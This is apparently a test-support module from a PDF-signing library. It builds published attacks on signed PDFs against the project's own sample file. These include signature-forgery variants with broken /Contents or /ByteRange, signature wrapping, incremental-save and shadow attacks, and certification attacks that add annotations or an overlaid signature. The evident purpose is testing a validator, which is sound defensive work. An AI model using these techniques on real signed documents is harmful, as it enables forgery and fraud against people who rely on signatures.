"""Known attacks on signed PDFs, made against a file of ours (pdf-insecurity.org: universal forgery,
incremental saving, wrapping; shadow attacks of 2021; certification attacks EAA and SSA of 2021)."""

import re
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, SigSeedSubFilter
from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata, PdfSigner

from tests.signing.altering import LoadedSigner, draw_over, written


def rewritten(pdf: bytes, change) -> bytes:
    """The dictionary of the first signature changed by an incremental update."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    dictionary = writer.prev.embedded_signatures[0].sig_object
    change(dictionary)
    writer.mark_update(dictionary.container_ref)
    return written(writer)


def no_contents(pdf: bytes) -> bytes:
    return rewritten(pdf, lambda signature: signature.pop(name("/Contents")))


def empty_contents(pdf: bytes) -> bytes:
    return rewritten(pdf, lambda s: s.update({name("/Contents"): generic.ByteStringObject(b"")}))


def null_contents(pdf: bytes) -> bytes:
    return rewritten(pdf, lambda s: s.update({name("/Contents"): generic.NullObject()}))


def no_range(pdf: bytes) -> bytes:
    return rewritten(pdf, lambda signature: signature.pop(name("/ByteRange")))


def null_range(pdf: bytes) -> bytes:
    return rewritten(pdf, lambda s: s.update({name("/ByteRange"): generic.NullObject()}))


def ranged(*numbers: int):
    def attack(pdf: bytes) -> bytes:
        array = generic.ArrayObject(map(generic.NumberObject, numbers))
        return rewritten(pdf, lambda s: s.update({name("/ByteRange"): array}))

    return attack


def wrapped(pdf: bytes) -> bytes:
    """SWA: the second part of what was signed is moved to the end, other content comes before."""
    first, gap, length = _range(pdf)[1:]
    changed = draw_over(pdf)
    moved = len(changed)
    changed += pdf[gap : gap + length]
    array = generic.ArrayObject(map(generic.NumberObject, (0, first, moved, length)))
    return rewritten(changed, lambda s: s.update({name("/ByteRange"): array}))


def wrapped_in_place(pdf: bytes) -> bytes:
    """The same without an update: bytes pushed in behind the signature, and the range rewritten."""
    _start, first, gap, length = _range(pdf)
    evil = b"\n1 0 obj\n<</Evil true>>\nendobj\n"
    changed = pdf[:gap] + evil + pdf[gap:]
    old = re.search(rb"/ByteRange\s*\[[^\]]*\]", pdf)[0]
    new = b"/ByteRange [0 %d %d %d]" % (first, gap + len(evil), length)
    return changed.replace(old, new.ljust(len(old)))


def in_the_gap(pdf: bytes) -> bytes:
    """Bytes beside the hexadecimal digits, in the place that no signature covers."""
    _start, first, gap, _length = _range(pdf)
    held = pdf[first:gap]
    evil = b"> /Evil (not signed) "
    return pdf[:first] + held[: -len(evil)] + evil + pdf[gap:]


def appended_loosely(pdf: bytes) -> bytes:
    """ISA: an object put behind the file, with no cross-reference to tell of it."""
    page = PdfFileReader(BytesIO(pdf), strict=False).root["/Pages"]["/Kids"].raw_get(0)
    evil = b"\n%d 0 obj\n<</Type/Page/MediaBox[0 0 10 10]>>\nendobj\n" % page.idnum
    return pdf + evil


def appended_with_an_end(pdf: bytes) -> bytes:
    start = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    return appended_loosely(pdf) + b"startxref\n%s\n%%%%EOF\n" % start


def pages_replaced(pdf: bytes) -> bytes:
    """Shadow attack, replace: the page shows another stream."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    stream = generic.StreamObject(stream_data=b"BT ET 0 0 500 500 re f")
    page = writer.root["/Pages"]["/Kids"][0]
    page[name("/Contents")] = writer.add_object(stream)
    writer.update_container(page)
    return written(writer)


def font_replaced(pdf: bytes) -> bytes:
    """Shadow attack, replace: an innocent object such as a font is drawn anew."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    fonts = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"]
    font = fonts[next(iter(fonts))]
    font[name("/BaseFont")] = name("/Evil")
    writer.update_container(font)
    return written(writer)


def content_hidden(pdf: bytes) -> bytes:
    """Shadow attack, hide: a picture over the content is dropped, or the content itself."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    page = writer.root["/Pages"]["/Kids"][0]
    page[name("/Contents")] = generic.ArrayObject()
    writer.update_container(page)
    return written(writer)


def table_turned(pdf: bytes) -> bytes:
    """Shadow attack, hide and replace: nothing but a cross-reference that leads elsewhere."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page = reader.root["/Pages"]["/Kids"].raw_get(0)
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    other = pdf.index(b" 0 obj") - 1
    size, root = int(reader.trailer["/Size"]), reader.root_ref.idnum
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (
        page.idnum, other, size, root, previous,
    )  # fmt: skip
    return pdf + table + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


def catalog_replaced(pdf: bytes) -> bytes:
    """The whole tree of pages exchanged."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    page = generic.DictionaryObject(
        {name("/Type"): name("/Page"), name("/MediaBox"): generic.ArrayObject([])}
    )
    kids = generic.ArrayObject([writer.add_object(page)])
    tree = {name("/Type"): name("/Pages"), name("/Kids"): kids}
    tree[name("/Count")] = generic.NumberObject(1)
    writer.root[name("/Pages")] = writer.add_object(generic.DictionaryObject(tree))
    writer.update_root()
    return written(writer)


def annotated(pdf: bytes) -> bytes:
    """EAA: text over the certified content, as an annotation."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    box = generic.ArrayObject(map(generic.NumberObject, (50, 50, 300, 300)))
    note = generic.DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/FreeText"),
            name("/Rect"): box,
            name("/Contents"): generic.pdf_string("5.000.000.000 đồng"),
            name("/DA"): generic.pdf_string("/Helv 12 Tf 0 g"),
        }
    )
    writer.register_annotation(writer.root["/Pages"]["/Kids"].raw_get(0), writer.add_object(note))
    return written(writer)


def signed_over(pdf: bytes, key) -> bytes:
    """SSA: a signature of the attacker's own whose picture covers the content."""
    signer = PdfSigner(
        PdfSignatureMetadata(field_name="Evil", subfilter=SigSeedSubFilter.PADES),
        LoadedSigner(key),
        new_field_spec=SigFieldSpec("Evil", on_page=0, box=(0, 0, 500, 800)),
    )
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    return signer.sign_pdf(writer).getvalue()


def _range(pdf: bytes) -> list[int]:
    return [int(each) for each in re.search(rb"/ByteRange\s*\[([^\]]*)\]", pdf)[1].split()]


ATTACKS = {
    "no contents": no_contents,
    "empty contents": empty_contents,
    "contents null": null_contents,
    "no byte range": no_range,
    "byte range null": null_range,
    "byte range of nothing": ranged(0, 0, 0, 0),
    "negative byte range": ranged(0, -1, 10, 20),
    "short byte range": ranged(0, 100),
    "byte range past the end": ranged(0, 100, 200, 999_999_999),
    "wrapped": wrapped,
    "wrapped in place": wrapped_in_place,
    "bytes in the gap": in_the_gap,
    "appended without a table": appended_loosely,
    "appended with an old table": appended_with_an_end,
    "pages replaced": pages_replaced,
    "font replaced": font_replaced,
    "content hidden": content_hidden,
    "table turned": table_turned,
    "catalog replaced": catalog_replaced,
    "annotated": annotated,
    "drawn over": draw_over,
}
